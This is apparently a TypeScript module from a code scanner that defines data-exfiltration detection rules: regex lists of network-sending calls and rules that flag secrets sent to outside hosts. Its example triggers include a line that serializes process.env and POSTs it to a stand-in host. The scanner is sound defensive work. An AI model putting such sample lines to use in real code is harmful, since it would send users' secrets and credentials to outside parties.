import { carriesSecret, packs, readsSecret } from "./flow.js";
import { bringsData, destinationOf } from "./network.js";
import { isNode, type SyntaxNode } from "./node.js";
import { calleePath, globalPath, loadedModule, loaders, propertyName } from "./read.js";
import { nodeTypes, type SyntaxRule, weights } from "./rule.js";
import type { Syntax } from "./syntax.js";

const family = "data_exfiltration";

/** Calls that send what they are given. */
const senders =
  /^(?:fetch|(?:axios|got|request|superagent|node-fetch|ky|needle|\$|jQuery)(?:\.\w+|\(\)\.\w+)*|undici\.\w+|https?\.(?:get|request)|https?\.request\(\)\.(?:write|end)|http2\.connect.*|navigator\.sendBeacon|XMLHttpRequest\(\)\.(?:open|send)|(?:ws\.)?WebSocket(?:\(\)\.send)?|ws(?:\(\)\.send)?|EventSource|WebTransport|RTCPeerConnection.*|importScripts|dns(?:\/promises|\.promises)?\.(?:lookup|resolve\w*)|net\.(?:connect|createConnection|Socket\(\)\.connect)|(?:net|tls)\.\w+\(\)\.(?:write|end|send)|tls\.connect|dgram\.createSocket\(\)\.send|nodemailer\.createTransport\(\)\.sendMail|open|location\.(?:assign|replace)|document\.write(?:ln)?|postMessage|(?:parent|top|opener)\.postMessage|Image)$/;
const networkModules = new Set(
  "http https http2 net tls dgram dns dns/promises ws undici axios node-fetch got request superagent nodemailer".split(
    " ",
  ),
);
/** They have no purpose but to talk to someone else directly. */
const channels =
  /^(?:navigator\.sendBeacon|WebTransport|RTCPeerConnection|(?:ws\.)?WebSocket|ws|net\.(?:connect|createConnection|Socket\(\)\.connect)|tls\.connect|dgram\.createSocket\(\)\.send|dns(?:\/promises|\.promises)?\.resolve\w*)$/;
const addresses = new Set(["src", "href", "action", "location", "background", "backgroundImage"]);

const isCall = nodeTypes("CallExpression", "NewExpression");

/** Whether a call may send what it is given. */
const sends = (node: SyntaxNode, syntax: Syntax): boolean => {
  const path = globalPath(node.callee, syntax);
  return path !== undefined && senders.test(path);
};

/** `new Image().src = …`, `location.href = …` */
const isAddress = ({ left }: SyntaxNode, syntax: Syntax): boolean =>
  isNode(left) &&
  (left.type === "MemberExpression"
    ? addresses.has(propertyName(left, syntax) ?? "")
    : globalPath(left, syntax) === "location");

/** Somewhere it sends a secret to, if it does. */
function leaks(node: SyntaxNode, syntax: Syntax): boolean {
  if (node.type === "AssignmentExpression") return isAddress(node, syntax) && carriesSecret(node.right, syntax);
  const { callee } = node;
  if (isNode(callee) && callee.type === "MemberExpression" && propertyName(callee, syntax) === "pipe") {
    const to = globalPath((node.arguments as unknown[])[0], syntax) ?? "";
    return /^(?:net|tls|https?|dgram)\./.test(to) && carriesSecret(callee.object, syntax);
  }
  return sends(node, syntax) && (node.arguments as unknown[]).some((argument) => carriesSecret(argument, syntax));
}

/** Opening a channel to a host elsewhere; a name to look up can be a message itself. */
function opensChannel(node: SyntaxNode, syntax: Syntax): boolean {
  const path = calleePath(node, syntax);
  if (!channels.test(path)) return false;
  return (
    path.startsWith("RTCPeer") || destinationOf(node, syntax) === (path.startsWith("dns") ? "unknown" : "elsewhere")
  );
}

/** Rules of the family for JavaScript and TypeScript: secrets that leave, posts to elsewhere, and what is disguised. */
export const dataExfiltration: readonly SyntaxRule[] = [
  {
    name: "secret-sent",
    family,
    weight: weights.severe,
    catches: "sends what it read where secrets are kept",
    triggers:
      "const all = JSON.stringify(process.env); fetch('https://elsewhere.example', { method: 'POST', body: all })",
    ignores: "fetch(url, { headers: { authorization: process.env.API_TOKEN } })",
    on: nodeTypes("CallExpression", "NewExpression", "AssignmentExpression"),
    matches: (node, _index, syntax) => leaks(node, syntax),
  },
  {
    name: "external-post",
    family,
    weight: weights.serious,
    catches: "sends data to a fixed address elsewhere",
    triggers: "fetch('https://elsewhere.example/', { method: 'POST', body: data })",
    ignores: "fetch('/api/items', { method: 'POST', body: data })",
    on: isCall,
    matches: (node, _index, syntax) =>
      sends(node, syntax) &&
      destinationOf(node, syntax) === "elsewhere" &&
      (bringsData(node, syntax) || packs((node.arguments as unknown[])[0], syntax)),
  },
  {
    name: "direct-channel",
    family,
    weight: weights.serious,
    catches: "opens a channel to somewhere else",
    triggers: "navigator.sendBeacon('https://elsewhere.example', data)",
    ignores: "new WebSocket('ws://localhost:8080/')",
    on: isCall,
    matches: (node, _index, syntax) => opensChannel(node, syntax),
  },
  {
    name: "network-call",
    family,
    weight: weights.notable,
    catches: "talks to the network",
    triggers: "fetch('https://elsewhere.example/' + name)",
    ignores: "const fetch = (key) => cache.get(key); fetch('a')",
    on: isCall,
    matches: (node, _index, syntax) => sends(node, syntax) && destinationOf(node, syntax) !== "here",
  },
  {
    name: "network-module",
    family,
    weight: weights.none,
    catches: "loads a module that talks to the network",
    triggers: "import { request } from 'node:https'; request('https://elsewhere.example')",
    ignores: "import { join } from 'node:path'; join('http', 'net')",
    on: nodeTypes(...loaders),
    matches: (node, _index, syntax) => networkModules.has(loadedModule(node, syntax) ?? ""),
  },
  {
    name: "secret-read",
    family,
    weight: weights.notable,
    catches: "reads where secrets are kept",
    triggers: "send(process.env)",
    ignores: "send(process.env.PORT)",
    on: nodeTypes("Identifier", "MemberExpression", "Literal", "CallExpression"),
    matches: (_node, index, syntax) => readsSecret(index, syntax),
  },
];
